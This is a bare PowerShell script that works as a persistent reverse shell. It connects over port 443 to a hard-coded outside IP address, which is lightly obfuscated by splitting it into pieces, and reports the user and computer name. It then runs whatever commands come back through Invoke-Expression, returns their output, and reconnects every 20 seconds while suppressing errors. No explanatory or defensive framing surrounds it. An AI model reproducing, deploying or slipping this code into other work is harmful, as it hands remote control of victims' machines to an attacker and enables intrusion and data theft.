param([string]$Ticket = '0')
$h = '94.156.79.' + (40 + 2)
$p = 443
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TCPClient($h, $p)
    $s = $c.GetStream()
    $w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
    $w.WriteLine("ticket $Ticket $env:USERNAME@$env:COMPUTERNAME")
    [byte[]]$b = 0..65535 | ForEach-Object { 0 }
    while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
      $cmd = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
      $out = try { (Invoke-Expression $cmd 2>&1 | Out-String) } catch { $_.ToString() }
      $w.Write($out + 'PS ' + (Get-Location).Path + '> ')
    }
    $c.Close()
  } catch { }
  Start-Sleep -Seconds 20
}
